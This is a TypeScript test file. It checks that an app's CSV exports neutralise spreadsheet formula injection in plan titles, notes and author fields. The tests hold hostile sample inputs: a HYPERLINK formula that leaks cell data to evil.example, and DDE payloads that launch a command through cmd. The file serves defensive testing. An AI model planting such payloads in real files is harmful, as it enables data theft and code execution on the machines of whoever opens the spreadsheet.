// CSV exports open in Excel: a cell starting with = + - @ (or a tab / CR that
// Excel skips before one) would run as a formula, so a plan title, a note or
// an author name typed by anyone can never become one. Read back with an
// RFC 4180 reader, every text cell is exactly what was typed (with a leading
// apostrophe when it would have been a formula), and Chinese text is intact.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { createSnapshot, snapshotToCsv, scoresToCsv } from '../../engine/snapshot/index.ts';
import { scorePlans } from '../../engine/score/index.ts';
import type { ProgressEntry } from '../../engine/progress/schema.ts';
import type { Plan } from '../../engine/types.ts';
import { seedPlan } from '../fixtures/db-tools.ts';
import { entriesArb, planArb } from '../fixtures/arbitraries.ts';
import { readCsv } from '../fixtures/csv.ts';

const FORMULA_START = /^[=+\-@\t\r]/u;
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/u;

/** Cells a spreadsheet would evaluate: they start like a formula and are not plain numbers. */
function dangerousCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => FORMULA_START.test(cell) && !NUMBER.test(cell));
}

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', '=1+1', '＝1+1', ' =1+1'];

function hostilePlan(): Plan {
  const plan = seedPlan();
  plan.title = '=HYPERLINK("http://evil.example","光明区方案")';
  plan.measures[0]!.title = '+SUM(1,1)';
  plan.measures[0]!.number = '-1';
  const withTarget = plan.measures.find((m) => m.targets.length > 0)!;
  withTarget.targets[0]!.label = '@cmd';
  withTarget.targets[0]!.unit = '=个';
  withTarget.title = '\t=1+1';
  return plan;
}

describe('CSV export escapes formulas', () => {
  it('plan titles, measure titles, target labels, notes and authors starting with = + - @ tab CR stay text', () => {
    const plan = hostilePlan();
    const withTarget = plan.measures.find((m) => m.targets.length > 0)!;
    const entries: ProgressEntry[] = PAYLOADS.map((payload, i) => ({
      id: `e${i}`,
      planId: plan.id,
      measureId: withTarget.id,
      kind: 'value',
      targetId: withTarget.targets[0]!.id,
      value: i - 3, // negative numbers are numbers, not formulas
      date: '2025-07-01',
      updatedAt: `2025-07-01T10:00:0${i}.000Z`,
      note: payload,
      author: payload,
      evidence: payload,
    }));
    entries.push({ id: 's1', planId: plan.id, measureId: plan.measures[0]!.id, kind: 'status', milestone: '推进中', date: '2025-07-01', updatedAt: '2025-07-01T10:00:00.000Z', note: '-负面清单' });
    const snapshot = createSnapshot({ plans: [plan], entries, asOf: '2025-07-05', appVersion: '0.1.0', createdAt: '2025-07-05T08:00:00.000Z' });
    const csv = snapshotToCsv(snapshot, [plan]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.startsWith('\uFEFF\uFEFF')).toBe(false);
    const rows = readCsv(csv.slice(1));
    expect(rows.length).toBe(entries.length + 1);
    expect(dangerousCells(rows)).toEqual([]);
    // Every payload is there as typed, behind one apostrophe when it began like a formula.
    const cells = new Set(rows.flat());
    for (const payload of PAYLOADS) expect(cells.has(FORMULA_START.test(payload) ? `'${payload}` : payload)).toBe(true);
    expect(cells.has(`'${plan.title}`)).toBe(true);
    expect(cells.has("'-负面清单")).toBe(true);
    // Numbers stay numbers (Excel sums them).
    expect(cells.has('-3')).toBe(true);
    // Chinese text intact.
    expect(csv).toContain('光明区方案');
    expect(csv).toContain('推进中');
  });

  it('the scorecard CSV escapes them too', () => {
    const plan = hostilePlan();
    const csv = scoresToCsv([plan], scorePlans([plan], [], { asOf: '2025-07-05' }));
    const rows = readCsv(csv.replace(/^\uFEFF/u, ''));
    expect(rows.length).toBeGreaterThan(plan.measures.length);
    expect(dangerousCells(rows)).toEqual([]);
  });

  it('for any notes and titles a user can type (property), no cell is a formula and text round-trips', () => {
    fc.assert(
      fc.property(
        planArb('p').chain((plan) => fc.record({ plan: fc.constant(plan), entries: entriesArb(plan, 'e', 8) })),
        fc.string({ unit: 'binary', maxLength: 20 }),
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', ''),
        ({ plan, entries }, tail, lead) => {
          const title = lead + tail;
          const p = { ...plan, title };
          const csv = snapshotToCsv(createSnapshot({ plans: [p], entries, asOf: '2025-07-05', appVersion: '0.1.0', createdAt: '2025-07-05T08:00:00.000Z' }), [p]);
          const rows = readCsv(csv.slice(1));
          expect(dangerousCells(rows)).toEqual([]);
          const live = entries.filter((e) => !e.deleted);
          expect(rows.length).toBe(live.length + 1);
          for (const row of rows.slice(1)) expect(row[0]).toBe(FORMULA_START.test(title) ? `'${title}` : title);
        },
      ),
      { numRuns: 300 },
    );
  });
});
